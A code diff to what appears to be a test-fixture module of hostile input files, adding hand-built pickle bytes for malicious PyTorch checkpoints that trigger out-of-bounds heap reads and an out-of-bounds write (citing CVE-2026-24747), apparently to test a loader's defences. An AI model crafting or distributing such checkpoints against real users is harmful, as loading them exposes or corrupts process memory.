@@ -1,8 +1,9 @@
-"""Small files that would take hours, or all memory, of who opens them without care."""
+"""Small files that take hours, or all memory, of who opens them without care, or reach into it."""
 
 from __future__ import annotations
 
 import io
+import pickle
 import struct
 import zipfile
 import zlib
@@ -94,6 +95,8 @@ PICTURE_BOMBS: dict[str, Callable[[], bytes]] = {
 
 # --- checkpoints -------------------------------------------------------------------------------
 
+ORDERED_DICT = b"ccollections\nOrderedDict\n)R"  # an empty one, as a pickle makes it
+
 
 def checkpoint_of(pickled: bytes, **entries: bytes) -> bytes:
     """Return a checkpoint with this pickle in it, and other entries beside it."""
@@ -147,9 +150,42 @@ def checkpoint_of_many_entries() -> bytes:
     return content[:listed] + entries + content[end : end + 8] + where
 
 
+def storage_pickle(elements: int, offset: int = 0, size: int = 1, stride: int = 1) -> bytes:
+    """Return the pickle of a tensor in the storage "0", each number of it as it is told."""
+    numbers = [pickle.dumps(number, 2)[2:-1] for number in (elements, offset, size, stride)]
+    claimed, first, length, step = numbers
+    identity = b"(X\7\0\0\0storagectorch\nFloatStorage\nX\1\0\0\x000X\3\0\0\0cpu%btQ" % claimed
+    where = b"%b%b\x85%b\x85" % (first, length, step)
+    return b"ctorch._utils\n_rebuild_tensor_v2\n(%b%b\x89%btR" % (identity, where, ORDERED_DICT)
+
+
+def checkpoint_with(tensor: bytes, **entries: bytes) -> bytes:
+    """Return a checkpoint of this one tensor, which has the entries that are named beside it."""
+    return checkpoint_of(b"\x80\2}(X\1\0\0\0w%bu." % tensor, **entries)
+
+
+def checkpoint_that_reads_the_heap() -> bytes:
+    """A megabyte of weights, of which four bytes are in the file (CVE-2026-24747)."""
+    return checkpoint_with(storage_pickle(250_000, size=250_000), **{"data/0": bytes(4)})
+
+
+def checkpoint_that_reads_beyond() -> bytes:
+    """A storage as it should be, and a tensor that begins a megabyte behind its end."""
+    return checkpoint_with(storage_pickle(1, offset=250_000), **{"data/0": bytes(4)})
+
+
+def checkpoint_that_writes() -> bytes:
+    """A tensor in the place of a dict: its thousandth number is set (CVE-2026-24747)."""
+    pickled = b"\x80\2" + storage_pickle(1) + b"M\xe8\3G" + bytes(8) + b"s."
+    return checkpoint_of(pickled, **{"data/0": bytes(4)})
+
+
 CHECKPOINT_BOMBS: dict[str, Callable[[], bytes]] = {
     "sixty gigabytes of zeros": checkpoint_of_empty_gigabytes,
     "tuples of tuples": checkpoint_of_tuples,
     "a packed archive": checkpoint_that_is_packed,
     "an archive of many entries": checkpoint_of_many_entries,
+    "a storage longer than its entry": checkpoint_that_reads_the_heap,
+    "a tensor beyond its storage": checkpoint_that_reads_beyond,
+    "an item set on a tensor": checkpoint_that_writes,
 }
